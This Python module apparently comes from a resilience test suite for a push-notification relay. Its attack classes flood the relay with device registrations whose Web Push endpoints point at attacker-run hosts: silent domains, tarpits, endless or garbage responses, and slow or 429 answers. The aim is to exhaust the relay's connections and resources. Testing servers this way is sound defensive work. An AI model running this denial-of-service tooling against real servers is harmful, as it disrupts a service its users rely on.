"""Registrations at push services of the stranger's own: Web Push endpoints are anybody's choice."""

import asyncio
from abc import abstractmethod
from collections.abc import Mapping, Sequence
from typing import ClassVar, Final

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from devices import Device, new_browsers
from ntf_load import Command
from smp_load import notifier_id

from attacks import origins
from attacks.base import ONE_ADDRESS, UNPROVEN, Attack, Volley
from attacks.own_smp import OwnSmp, tarpit
from ntf_client.push import VerificationCode
from smp_bridge import crypto, ntf

_VERSION: Final = ntf.VERSIONS[1]
_SESSIONS: Final = 10
_EACH: Final = 0.5  # seconds between two NMSGs to each device


def tnew(device: Device) -> Command:
    """Register it."""
    new = ntf.TNew(device.token, device.key.public_key(), device.dh_key.public_key())
    return Command(new.encode(_VERSION), b"", device.key)


class _Unverified(Attack):
    """Codes are pushed to endpoints that never take them; each at an origin of its own."""

    descriptors: ClassVar[int] = ONE_ADDRESS + UNPROVEN

    @abstractmethod
    async def endpoints(self, count: int) -> Sequence[str]:
        """Origins, `https://host:port`."""

    async def prepare(self) -> None:
        """Sign. More than the budget of an address lets through in the time."""
        devices = [new_browsers(1, origin)[0] for origin in await self.endpoints(self.plan.count(800))]
        self._volley = Volley(self, _SESSIONS)
        await self._volley.load([tnew(device) for device in devices])

    async def run(self) -> None:
        """Register."""
        asyncio.get_running_loop().call_later(5, self.in_place.set)
        await self._volley.fire(window=4)
        await asyncio.Event().wait()


class SilentPushNames(_Unverified):
    """B3: names whose name servers are silent."""

    about = "push services whose names nobody answers for"

    async def endpoints(self, count: int) -> Sequence[str]:
        """Of the silent domain."""
        return [f"https://push{i}.{self.plan.silent}" for i in range(count)]


class SilentOrigins(_Unverified):
    """B3, WB3, K7."""

    about = "push services that take connections and say nothing"

    async def endpoints(self, count: int) -> Sequence[str]:
        """All on one port."""
        self._held: set[asyncio.BaseTransport] = set()
        port = await tarpit(self.plan.evil_host, self._held)
        return [f"https://push{i}.{self.plan.evil}:{port}" for i in range(count)]

    def figures(self) -> Mapping[str, float]:
        """With the connections that the relay has there now."""
        return {**super().figures(), "connections held": len(self._held)}


class PoisonedAnswers(_Unverified):
    """What no HTTP client should choke on."""

    about = "push services that answer without end, with garbage, or byte by byte"
    _answers: ClassVar = (origins.huge_body, origins.endless_headers, origins.drip, origins.garbage)

    async def endpoints(self, count: int) -> Sequence[str]:
        """Each kind in turn."""
        files = self.plan.cert_file, self.plan.key_file
        self._origins = [origins.Origin(*files, a, http2=a is origins.garbage) for a in self._answers]
        ports = [await origin.listen(self.plan.evil_host) for origin in self._origins]
        return [f"https://push{i}.{self.plan.evil}:{ports[i % len(ports)]}" for i in range(count)]

    def figures(self) -> Mapping[str, float]:
        """With the pushes that came."""
        return {**super().figures(), "pushes": sum(origin.pushes for origin in self._origins)}


class _Verified(Attack):
    """Devices that are ACTIVE, with a queue each on the stranger's own SMP server; then their services change."""

    descriptors: ClassVar[int] = ONE_ADDRESS + UNPROVEN
    settle: ClassVar[float] = 10.0

    @abstractmethod
    def answer(self) -> origins.Answer:
        """What their services answer from then on."""

    async def prepare(self) -> None:
        """Register, verify, subscribe: nothing of that is an attack."""
        plan = self.plan
        self._origin = origins.Origin(plan.cert_file, plan.key_file)
        self._smp = OwnSmp(plan.count(250))
        if plan.is_sink:
            return
        port = await self._origin.listen(plan.evil_host)
        await self._smp.listen(plan.evil_host)
        names = (f"https://push{i}.{plan.evil}:{port}" for i in range(plan.count(250)))
        devices = [new_browsers(1, name)[0] for name in names]
        await self._verify(devices)
        server = self._smp.address(plan.evil_host)
        await self._fire(
            [
                Command(
                    ntf.SNew(d.token_id, server, notifier_id(i), Ed25519PrivateKey.generate()).encode(_VERSION),
                    b"",
                    d.key,
                )
                for i, d in enumerate(devices)
            ]
        )
        await self.until(lambda: self._smp.stats()["subscribed"] >= len(devices))

    async def _verify(self, devices: Sequence[Device]) -> None:
        for device, answer in zip(devices, await self._fire([tnew(d) for d in devices]), strict=True):
            registered = ntf.parse_answer(answer, _VERSION)
            assert isinstance(registered, ntf.IdTkn)
            device.token_id, device.secret = registered.token_id, crypto.dh(device.dh_key, registered.dh_key)
        await self.until(lambda: len(self._origin.came) >= len(devices))
        for device in devices:
            content = device.content(self._origin.came[device.path])
            assert isinstance(content, VerificationCode)
            device.code = content.code
        await self._fire([Command(ntf.TVfy(d.code).encode(_VERSION), d.token_id, d.key) for d in devices])

    async def _fire(self, commands: Sequence[Command]) -> Sequence[bytes]:
        volley = Volley(self, 1)
        await volley.load(commands)
        return (await volley.fire()).answers

    async def run(self) -> None:
        """Messages for all of them, again and again."""
        asyncio.get_running_loop().call_later(5, self.in_place.set)
        self._origin.answer, self._origin.pushes = self.answer(), 0
        while True:
            if not self.plan.is_sink:
                self._smp.notify(range(self.plan.count(250)))
            await asyncio.sleep(_EACH)

    def figures(self) -> Mapping[str, float]:
        """With the pushes that came since."""
        return {**super().figures(), "pushes": self._origin.pushes, "connections held": self._origin.open}


class SlowOrigins(_Verified):
    """Each push takes its place for as long as it may."""

    about = "250 push services that were good and now answer after 28 s"

    def answer(self) -> origins.Answer:
        """Late."""
        return origins.slow


class BusyOrigins(_Verified):
    """K7: 429."""

    about = "250 push services that were good and now answer 429"

    def answer(self) -> origins.Answer:
        """Not now."""
        return origins.busy
